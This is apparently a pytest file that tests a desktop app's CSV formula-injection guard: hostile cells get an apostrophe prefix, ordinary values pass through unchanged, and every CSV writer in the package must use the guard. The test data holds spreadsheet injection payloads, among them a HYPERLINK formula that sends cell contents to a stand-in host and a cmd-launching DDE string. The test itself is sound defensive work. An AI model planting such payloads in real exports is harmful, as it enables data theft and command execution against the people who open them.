"""`core.spreadsheet`: the one formula guard of every export a spreadsheet opens."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from udsat_desktop.core.spreadsheet import csv_cell, csv_row, looks_like_formula

PACKAGE = Path(__file__).resolve().parents[2] / "udsat_desktop"


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(hostile):
    assert looks_like_formula(hostile)
    assert csv_cell(hostile) == "'" + hostile
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerow(csv_row(["010190-1234", hostile]))
    [row] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row == ["010190-1234", "'" + hostile]


@pytest.mark.parametrize(
    "ordinary", ["Åse Ærø", "010190-1234", "2026-11-24", "a=b", "x-y", "", " =SUM", "ja"]
)
def test_ordinary_text_and_other_values_are_unchanged(ordinary):
    assert not looks_like_formula(ordinary)
    assert csv_cell(ordinary) == ordinary
    assert csv_row([ordinary, 7, None]) == [ordinary, 7, None]


def test_every_csv_the_app_writes_goes_through_the_guard():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    unguarded = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if writers.search(text := path.read_text(encoding="utf-8"))
        and "core.spreadsheet import" not in text
    ]
    assert unguarded == []
    assert any(writers.search(p.read_text(encoding="utf-8")) for p in PACKAGE.rglob("*.py"))
